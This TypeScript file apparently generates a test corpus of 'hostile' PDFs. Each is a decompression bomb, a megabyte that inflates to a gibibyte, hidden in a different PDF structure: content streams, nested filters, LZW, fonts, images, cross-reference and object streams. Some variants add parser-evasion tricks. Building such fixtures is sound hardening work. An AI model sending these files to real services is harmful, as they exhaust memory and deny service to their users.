/** Streams of about a megabyte that become a gibibyte when they are read. */
import { deflateRawSync, deflateSync } from 'node:zlib';
import { pagePdf, pdfBytes, streamBody } from '../pdf-bytes.js';
import type { HostileFile } from './hostile-file.js';

const GIBIBYTE = 1 << 30;
/** Bytes that one piece of the bomb stands for: a multiple of every pattern below. */
const PIECE = 1 << 20;

/**
 * A zlib stream of `length` bytes of a repeated pattern, made of one compressed piece over and over (each ends at a byte, so they may
 * follow each other). The check sum at the end is wrong, which no reader minds before it has inflated everything.
 */
export function bomb(pattern: string, length = GIBIBYTE): Buffer {
  const plain = Buffer.alloc(PIECE, pattern, 'latin1');
  // Z_FULL_FLUSH: the piece ends at a byte and refers to nothing before it.
  const whole = deflateRawSync(plain, { level: 9, finishFlush: 3 });
  const pieces = Array.from({ length: Math.ceil(length / PIECE) }, () => whole);
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...pieces, Buffer.from([3, 0, 0, 0, 0, 1])]);
}

const FLATE = '/Filter /FlateDecode';
const WORD = 'BT /F 12 Tf 72 700 Td (2023年度部门决算) Tj ET\n';
const IMAGE = '/Type /XObject /Subtype /Image /Width 32768 /Height 32768 /BitsPerComponent 8 /ColorSpace /DeviceGray';

/** A file whose page shows text in a font with this font program. */
function fontFile(program: Buffer): Uint8Array {
  return pagePdf('BT /G 12 Tf 72 700 Td (ABC) Tj ET', {
    resources: '/Font << /G 6 0 R >>',
    more: [
      '<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 65 /LastChar 67 /Widths [500 500 500] /FontDescriptor 7 0 R >>',
      '<< /Type /FontDescriptor /FontName /Bomb /Flags 4 /FontBBox [0 0 1000 1000] /FontFile2 8 0 R >>',
      streamBody(FLATE, program),
    ],
  });
}

/** A file whose objects are found by a cross-reference stream, whose data is the bomb. */
function crossReferenceStream(data: Buffer): Uint8Array {
  const head = Buffer.from('%PDF-1.7\n', 'latin1');
  const object = Buffer.concat([
    Buffer.from('1 0 obj\n', 'latin1'),
    streamBody(`/Type /XRef /Size 100000000 /W [1 4 2] /Root 2 0 R ${FLATE}`, data),
    Buffer.from('\nendobj\n', 'latin1'),
  ]);
  return Buffer.concat([head, object, Buffer.from(`startxref\n${head.length}\n%%EOF\n`, 'latin1')]);
}

/** A catalog that stands in an object stream, which is the bomb. */
function objectStream(data: Buffer): Uint8Array {
  const sound = Buffer.from(pdfBytes(['<< /Type /Catalog /Pages 2 0 R >>']));
  const stream = streamBody(`/Type /ObjStm /N 1 /First 10 ${FLATE}`, data);
  const at = sound.length;
  const table = Buffer.from([
    ...[0, 0, 0, 0, 0, 0, 0],
    ...[2, 0, 0, 0, 2, 0, 0],
    ...[1, 0, 0, (at >> 8) & 255, at & 255, 0, 0],
  ]);
  const body = Buffer.concat([sound, Buffer.from('2 0 obj\n'), stream, Buffer.from('\nendobj\n')]);
  const table2 = streamBody('/Type /XRef /Size 3 /W [1 4 2] /Root 1 0 R', table);
  const end = Buffer.from(`\nendobj\nstartxref\n${body.length}\n%%EOF\n`);
  return Buffer.concat([body, Buffer.from('3 0 obj\n'), table2, end]);
}

const ascii85 = (bytes: Buffer): string => {
  let text = '';
  for (let at = 0; at + 4 <= bytes.length; at += 4) {
    let value = bytes.readUInt32BE(at);
    let group = '';
    for (let digit = 0; digit < 5; digit++) {
      group = String.fromCharCode(33 + (value % 85)) + group;
      value = Math.floor(value / 85);
    }
    text += group;
  }
  return `${text}~>`;
};

/** An LZW stream that names ever longer runs of blanks: codes of twelve bits that stand for thousands of bytes each. */
function lzwBomb(codes: number): Buffer {
  const bits: number[] = [];
  const put = (code: number, width: number): void => {
    for (let bit = width - 1; bit >= 0; bit--) bits.push((code >> bit) & 1);
  };
  const bytes: number[] = [];
  let next = 258;
  put(256, 9);
  put(32, 9);
  for (let i = 0; i < codes; i++) {
    const width = next + 2 > 4096 ? 12 : next + 1 >= 2048 ? 12 : next + 1 >= 1024 ? 11 : next + 1 >= 512 ? 10 : 9;
    put(Math.min(next, 4095), width);
    if (next < 4095) next++;
    while (bits.length >= 8) bytes.push(Number.parseInt(bits.splice(0, 8).join(''), 2));
  }
  put(257, 12);
  while (bits.length % 8 !== 0) bits.push(0);
  while (bits.length >= 8) bytes.push(Number.parseInt(bits.splice(0, 8).join(''), 2));
  return Buffer.from(bytes);
}

/** Every place of a PDF where a megabyte may stand for a gibibyte. */
export function bombs(): readonly HostileFile[] {
  const operators = bomb('q Q ');
  const blanks = bomb(' ');
  const numbers = bomb('1 0 ');
  const zeros = bomb('\0');
  const inTwo = deflateSync(blanks, { level: 9 });
  const inThree = deflateSync(inTwo, { level: 9 });
  return [
    { name: 'bomb in the content, operators', bytes: pagePdf(operators, { filters: FLATE }) },
    { name: 'bomb in the content, blanks', bytes: pagePdf(blanks, { filters: FLATE }) },
    { name: 'bomb in the content, operands', bytes: pagePdf(numbers, { filters: FLATE }) },
    {
      name: 'bomb in the content, escaped filter name',
      bytes: pagePdf(blanks, { filters: '/Filter /Fl#61teDecode' }),
    },
    {
      name: 'bomb in the content, filter and length elsewhere',
      bytes: pagePdf(blanks, {
        filters: '/Filter 6 0 R /Length 7 0 R',
        more: ['/FlateDecode', String(blanks.length)],
      }),
    },
    {
      name: 'bomb in the content, a false end in its data',
      bytes: pagePdf(
        // A stored block that holds the words by which a naive reader finds the end.
        Buffer.concat([
          Buffer.from([0x78, 0xda, 0, 20, 0, 235, 255]),
          Buffer.from('\nendstream endobj   '),
          blanks.subarray(2),
        ]),
        { filters: FLATE },
      ),
    },
    {
      name: 'bomb in a bomb',
      bytes: pagePdf(inTwo, { filters: '/Filter [/FlateDecode /FlateDecode]' }),
    },
    {
      name: 'bomb in a bomb in a bomb, short names',
      bytes: pagePdf(inThree, { filters: '/Filter [/Fl /Fl /Fl]' }),
    },
    {
      name: 'bomb in text',
      bytes: pagePdf(ascii85(blanks), { filters: '/Filter [/ASCII85Decode /FlateDecode]' }),
    },
    {
      name: 'bomb in hexadecimal text',
      bytes: pagePdf(`${blanks.toString('hex')}>`, { filters: '/Filter [/ASCIIHexDecode /FlateDecode]' }),
    },
    { name: 'bomb in LZW', bytes: pagePdf(lzwBomb(300_000), { filters: '/Filter /LZWDecode' }) },
    {
      name: 'bomb in a form',
      bytes: pagePdf(`${WORD} /X Do`, {
        resources: '/XObject << /X 6 0 R >>',
        more: [streamBody(`/Type /XObject /Subtype /Form /BBox [0 0 10 10] ${FLATE}`, operators)],
      }),
    },
    { name: 'bomb in a font program', bytes: fontFile(zeros) },
    {
      name: 'bomb in a character map',
      bytes: pagePdf('BT /G 12 Tf 72 700 Td (ABC) Tj ET', {
        resources: '/Font << /G 6 0 R /F 5 0 R >>',
        more: [
          '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>',
          streamBody(FLATE, bomb('<41> <0041> ')),
        ],
      }),
    },
    {
      name: 'bomb in an image',
      bytes: pagePdf('q 595 0 0 842 0 0 cm /X Do Q', {
        resources: '/XObject << /X 6 0 R >>',
        more: [streamBody(`${IMAGE} ${FLATE}`, zeros)],
      }),
    },
    {
      name: 'bomb in a small image',
      bytes: pagePdf('q 595 0 0 842 0 0 cm /X Do Q', {
        resources: '/XObject << /X 6 0 R >>',
        more: [streamBody(`${IMAGE.replaceAll('32768', '100')} ${FLATE}`, zeros)],
      }),
    },
    { name: 'bomb in the cross-reference stream', bytes: crossReferenceStream(zeros) },
    { name: 'bomb in an object stream', bytes: objectStream(blanks) },
    {
      name: 'many small bombs on one page',
      bytes: pagePdf('', {
        page: `/Contents [${Array.from({ length: 40 }, (_, index) => `${index + 6} 0 R`).join(' ')}]`,
        more: Array.from({ length: 40 }, () => streamBody(FLATE, bomb(' ', 50 << 20))),
      }),
    },
  ];
}
